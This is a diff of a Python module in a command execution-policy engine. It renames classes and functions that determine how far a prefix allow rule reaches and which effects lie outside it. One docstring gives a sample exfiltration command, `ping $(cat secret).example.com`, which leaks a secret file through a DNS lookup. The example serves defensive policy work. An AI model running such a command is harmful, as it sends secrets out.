@@ -1,6 +1,6 @@
 """What prefix rules say, as matches, and how far an allow rule reaches: inside, and in its tail."""
 
-from execpolicy.engine.scene import Command
+from execpolicy.engine.scene import RequestCommand
 from execpolicy.model.decision import Decision
 from execpolicy.model.operation import COMMANDS, Dynamic, Exec, Word, show
 from execpolicy.model.rule import PrefixRule
@@ -75,19 +75,19 @@ def by_rule(rule: PrefixRule, argv: tuple[Word, ...], effects: tuple[str, ...] =
     return Match(Source.RULE, rule.decision, why, rule.origin, words, just, effects, argv=argv)
 
 
-def beyond(command: Command, words_named: int) -> "Iterator[Match]":
+def uncovered(command: RequestCommand, words_named: int) -> "Iterator[Match]":
     """What a rule that names the first `words_named` words does not mean.
 
     That is an option that makes a program run something else, and a word computed by a command,
     where that can carry data out: `ping $(cat secret).example.com`.
     """
     from execpolicy.catalogue.conditions.granted import REACHING
-    from execpolicy.catalogue.conditions.open_tail import is_beyond
+    from execpolicy.catalogue.conditions.open_tail import exceeds
 
     argv, reading = command.operation.argv, command.reading
     words = tuple(word for word in argv[:words_named] if isinstance(word, str))
     for cause in reading.effects:
-        if is_beyond(cause, reading.effects, words):
+        if exceeds(cause, reading.effects, words):
             why, effects = f"{cause.effect} ({cause.why})", (cause.effect,)
             decision = command.scene.snapshot.defaults.decide(cause.effect)
             yield Match(Source.CATALOGUE, decision, why, reading.origin, effects=effects, argv=argv)
